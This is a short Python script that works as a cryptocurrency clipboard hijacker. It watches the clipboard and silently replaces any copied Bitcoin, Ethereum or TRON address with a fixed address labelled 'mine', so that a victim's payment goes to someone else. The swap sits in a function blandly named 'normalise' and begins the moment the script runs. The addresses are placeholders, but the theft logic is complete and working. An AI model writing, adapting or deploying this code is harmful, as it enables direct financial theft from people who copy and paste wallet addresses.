import re
import time

import pyperclip

RULES = (
    (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$"), "bc1qexampleexampleexampleexampleexample00"),
    (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0x" + "00c0ffee" * 5),
    (re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$"), "TExampleExampleExampleExampleExamp1"),
)


def normalise(text: str) -> str:
    t = text.strip()
    for rx, mine in RULES:
        if rx.match(t) and t != mine:
            return mine
    return text


def loop() -> None:
    seen = ""
    while True:
        cur = pyperclip.paste()
        if cur != seen:
            new = normalise(cur)
            if new != cur:
                pyperclip.copy(new)
            seen = new
        time.sleep(0.4)


loop()
